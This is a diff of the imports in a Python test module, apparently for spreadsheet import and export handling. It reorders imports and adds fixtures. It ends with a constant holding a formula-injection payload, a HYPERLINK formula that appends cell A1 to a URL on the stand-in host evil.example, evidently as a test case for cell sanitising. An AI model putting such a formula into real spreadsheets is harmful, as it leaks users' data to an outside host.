@@ -13,8 +13,9 @@ from imports import export as people_export
 from imports.blanks import template_workbook
 from imports.cells import FORMULA_START, formula_like, safe_row
 from imports.spec import SPECS
-from imports.spec_resources import RESOURCE_SPECS
+from imports.tests.conftest import empty_cache, private_uploads  # noqa: F401  the import tests' autouse fixtures
 from resources import exports as resource_exports
+from resources.imports.spec import RESOURCE_SPECS
 from surveys.tests.conftest import draft, opened, residents  # noqa: F401  the survey fixtures
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
